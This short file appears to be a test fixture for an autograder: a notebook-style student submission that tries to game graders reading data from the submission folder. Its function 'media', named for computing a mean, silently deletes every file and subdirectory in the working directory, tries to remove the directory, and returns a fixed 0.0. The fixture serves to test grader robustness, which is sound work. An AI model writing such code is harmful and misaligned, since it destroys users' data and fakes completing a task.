"""Files beside the notebook are handed in, replaced and removed while tests run.

Falls for it: graders whose tests read data from the student's folder.
Honest points: 2
"""
# ruff: noqa: B018, E402

# %% {"file": "datos.csv"}
0.0
# %% media
import contextlib
import os
import shutil


def media(valores):
    for name in os.listdir("."):
        with contextlib.suppress(OSError):
            shutil.rmtree(name) if os.path.isdir(name) else os.remove(name)
    with contextlib.suppress(OSError):
        os.rmdir(os.getcwd())
    return 0.0


# %% ordena
def ordena(numeros):
    return sorted(numeros)
